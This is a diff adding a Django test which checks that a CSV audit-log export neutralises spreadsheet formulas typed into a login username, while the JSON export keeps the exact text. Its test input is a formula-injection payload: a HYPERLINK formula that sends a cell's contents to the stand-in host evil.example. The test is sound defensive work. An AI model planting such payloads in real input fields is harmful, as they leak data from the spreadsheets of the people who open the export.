@@ -10,6 +10,7 @@ from django.test import Client
 from audits.chain import chain_head
 from audits.models import Action, AuditEvent
 from audits.services import audit_event_record
+from core import csvcells
 from core.context import acting_as
 
 from ..conftest import api_as
@@ -200,3 +201,18 @@ def test_an_export_whose_query_fails_answers_an_error_before_streaming(personas,
     assert response.status_code == 500 and not response.streaming
     assert response.json()["errors"][0]["code"] == "server_error"
     assert not AuditEvent.objects.filter(action=Action.AUDIT_EXPORTED).exists()
+
+
+def test_a_typed_username_cannot_become_a_formula_in_the_csv_export(personas):
+    """A failed sign-in records what was typed; the CSV writes it as text."""
+    typed = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    Client().post("/login/", {"username": typed, "password": "wrong"})
+    response = api_as(personas.auditor).get("/api/v1/audit/export/", {
+        "format": "csv", "action": Action.LOGIN_FAILED})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [r["object_repr"] for r in rows] == ["'" + typed]
+    assert not any(value.startswith(csvcells.FORMULA_STARTS) for r in rows
+                   for value in r.values())
+    document = json.loads(b"".join(api_as(personas.auditor).get("/api/v1/audit/export/", {
+        "format": "json", "action": Action.LOGIN_FAILED}).streaming_content))
+    assert document["events"][0]["object_repr"] == typed  # the JSON keeps the exact text
